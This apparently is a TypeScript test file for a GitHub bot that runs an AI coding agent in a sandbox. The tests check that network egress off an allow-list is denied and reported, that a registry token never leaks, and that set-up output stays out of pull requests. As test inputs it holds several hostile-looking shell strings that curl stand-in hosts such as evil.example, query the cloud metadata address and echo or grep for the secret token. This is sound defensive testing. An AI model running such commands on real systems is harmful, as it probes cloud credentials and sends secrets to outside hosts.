/** Whole runs with a set-up: what the asker is told of it, and that the run goes on whatever it does. */
import { join } from "node:path";
import { readFile } from "node:fs/promises";
import { expect, test } from "vitest";
import type { Script } from "../../sim/models/models.ts";
import { readTaskJournal } from "../../src/store/journal.ts";
import { AT, REPO } from "../github.ts";
import { World } from "../world.ts";
import { readTree } from "./read-tree.ts";

const STORY = join(import.meta.dirname, "label-to-pull");
const ISSUE = { title: "Typo in the greeting", body: "It says `Helo`." };
const TOKEN = "registry-token-0123456789";

async function openWorld(settings: string, play?: Script): Promise<World> {
  const script: Script = play ?? JSON.parse(await readFile(join(STORY, "script.json"), "utf8"));
  for (const conversation of script.conversations) conversation.match = "It says `Helo`";
  const files = { ...(await readTree(join(STORY, "repo"))), ".github/agent.yml": settings };
  const env = { PULLWRIGHT_SETUP_ENV: "REGISTRY_TOKEN", REGISTRY_TOKEN: TOKEN };
  return World.open({ wire: "anthropic", script, files, env });
}

function said(world: World): string {
  return world.github.comments(REPO).find(({ user }) => user?.login === "pullwright[bot]")?.body ?? "";
}

test("a set-up that fails and asks for hosts it may not reach is told with the line to add, and the work is done", async () => {
  const asks =
    "set +e; curl -s https://cdn.evil.example/x; curl -s http://169.254.169.254/; echo $REGISTRY_TOKEN; exit 3";
  await using world = await openWorld(`setup: '${asks}'\n`);
  await world.labelIssue(ISSUE);
  const [task] = await world.ended(1);
  expect(task).toMatchObject({ state: "succeeded", attempt: 1 });
  expect(world.github.pulls(REPO)).toHaveLength(1);
  expect(said(world)).toContain("failed with exit 3; the agent worked without it.");
  expect(said(world)).toContain("The set-up was refused `cdn.evil.example:443` (not on the list)");
  expect(said(world)).toContain("`network: { setup: [cdn.evil.example] }`");
  const entries = task ? await readTaskJournal(world.store.database, task.id) : [];
  const briefed = entries.find(({ entry }) => entry.kind === "briefed")?.entry;
  expect(briefed?.kind === "briefed" && briefed.brief).toContain("It failed with exit 3.");
  expect(JSON.stringify([entries, world.github.comments(REPO), world.github.pulls(REPO)])).not.toContain(TOKEN);
});

test("what a set-up made is in place for checks and agent, and no part of the change", async () => {
  await using world = await openWorld(`setup: 'mkdir deps && echo here >deps/x'\nchecks: ['cat deps/x']\n`);
  for (const [i, isCached] of [false, true].entries()) {
    await world.labelIssue({ ...ISSUE, title: `${ISSUE.title} ${i}` });
    const [task] = await world.ended(i + 1);
    const entries = task ? await readTaskJournal(world.store.database, task.id) : [];
    expect(entries.map(({ entry }) => entry)).toContainEqual(
      expect.objectContaining({ kind: "set-up-finished", isCached }),
    );
    const checks = entries.flatMap(({ entry }) => (entry.kind === "verified" ? [entry.command.exitCode] : []));
    expect(checks).toEqual([0, 0]);
  }
  const { data } = await world.as("ada").pulls.list({ ...AT, state: "open" });
  for (const { number } of data) {
    const files = (await world.as("ada").pulls.listFiles({ ...AT, pull_number: number })).data;
    expect(files.map(({ filename }) => filename)).toEqual(["greet.sh"]);
  }
});

test("an agent whose repository names hosts reaches for others in vain, and that is told; without a list it has no network at all", async () => {
  const command = "env | grep -c REGISTRY_TOKEN; curl -sS http://evil.example/ 2>&1";
  const turns: Script["conversations"][number]["turns"] = [
    { do: [{ do: "shell", command }] },
    { do: [{ do: "call", tool: "report", input: { title: "Nothing", summary: "Nothing to do." } }] },
  ];
  const play = { conversations: [{ name: "asks", turns }] };
  const observed: string[] = [];
  for (const settings of ["network: { agent: [api.example.com] }\n", "checks: []\n"]) {
    await using world = await openWorld(settings, play);
    await world.labelIssue(ISSUE);
    const [task] = await world.ended(1);
    const entries = (task ? await readTaskJournal(world.store.database, task.id) : []).map(({ entry }) => entry);
    observed.push(
      entries.flatMap((entry) => (entry.kind === "tool-observed" ? [entry.observation.text] : [])).join("\n"),
    );
    const told = entries.filter((entry) => entry.kind === "egress");
    const denied = {
      kind: "egress",
      phase: "agent",
      verdict: "denied",
      host: "evil.example",
      port: 80,
      why: "not on the list",
    };
    const isListed = settings.startsWith("network");
    expect(told).toEqual(isListed ? [denied] : []);
    expect(said(world).includes("`network: { agent: [evil.example] }`")).toBe(isListed);
  }
  expect(observed[0]).toMatch(/^0$/m);
  expect(observed[0]).toContain("egress denied by policy: evil.example:80: not on the list");
  expect(observed[1]).toContain("Could not resolve host");
});

const looks = "cat deps/x; touch deps/y 2>/dev/null || echo closed; env | grep -c REGISTRY_TOKEN; true";
const reviews: Script = {
  conversations: [
    {
      name: "review",
      match: ["Review pull request"],
      turns: [
        { do: [{ do: "shell", command: looks }] },
        { do: [{ do: "call", tool: "report", input: { summary: "Fine.", findings: [] } }] },
      ],
    },
    {
      name: "issue",
      match: ["It says `Helo`"],
      turns: [{ do: [{ do: "call", tool: "report", input: { title: "Nothing", summary: "Nothing to do." } }] }],
    },
  ],
};

test.each([true, false])(
  "a review finds what a set-up made where the settings say so (%s), and nobody else's",
  async (wants) => {
    const settings = `setup: 'mkdir deps && echo here >deps/x'\nreview: { setup: ${wants} }\n`;
    const files = { ...(await readTree(join(STORY, "repo"))), ".github/agent.yml": settings };
    const env = { PULLWRIGHT_SETUP_ENV: "REGISTRY_TOKEN", REGISTRY_TOKEN: TOKEN };
    await using world = await World.open({ wire: "anthropic", script: reviews, files, env });
    // The branch's own set-up, which starts from the very same files.
    await world.labelIssue(ISSUE);
    await world.ended(1);
    const change = { "notes.md": "Words alone.\n" };
    await world.github.commitFiles(REPO, "topic", { login: "ada", message: "One", files: change, from: "main" });
    const pull = { ...AT, title: "Notes", head: "topic", base: "main", body: "" };
    const { number } = (await world.as("ada").pulls.create(pull)).data;
    await world.ended(2);
    await world.as("ada").issues.createComment({ ...AT, issue_number: number, body: "/agent review" });
    const [again, first] = await world.ended(3);
    const told = await Promise.all(
      [first, again].map(async (task) => {
        const entries = task ? (await readTaskJournal(world.store.database, task.id)).map(({ entry }) => entry) : [];
        const seen = entries.flatMap((entry) => (entry.kind === "tool-observed" ? [entry.observation.text] : []))[0];
        const setUps = entries.flatMap((entry) => (entry.kind === "set-up-finished" ? [entry.isCached] : []));
        return { goal: task?.goal, setUps, seen };
      }),
    );
    const seen = wants
      ? "Exit status 0\nhere\nclosed\n0\n"
      : "Exit status 0\ncat: deps/x: No such file or directory\nclosed\n0\n";
    expect(told).toEqual([
      { goal: "review", setUps: wants ? [false] : [], seen },
      { goal: "review", setUps: wants ? [true] : [], seen },
    ]);
  },
  120_000,
);
